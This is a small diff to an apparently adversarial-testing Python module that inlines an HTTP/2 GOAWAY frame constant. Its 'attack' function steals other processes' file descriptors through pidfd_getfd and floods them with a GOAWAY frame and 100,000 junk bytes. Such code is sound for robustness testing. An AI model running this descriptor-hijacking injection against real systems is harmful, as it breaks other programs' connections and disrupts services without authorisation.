@@ -3,10 +3,11 @@
 import ctypes
 import os
 
-from hostile.frames import GOAWAY, frame
 from hostile.lines import run_lines
 
 PIDFD_OPEN, PIDFD_GETFD = 434, 438
+# A frame of HTTP/2 that says that the client goes away.
+GOAWAY = b"\0\0\x08\x07" + bytes(13)
 libc = ctypes.CDLL(None)
 
 
@@ -21,7 +22,7 @@ def attack(turn):
             except OSError:
                 continue
         try:
-            os.write(taken, frame(GOAWAY, 0, 0, bytes(8)) + b"\xff" * 100_000)
+            os.write(taken, GOAWAY + b"\xff" * 100_000)
         except OSError:
             pass
 
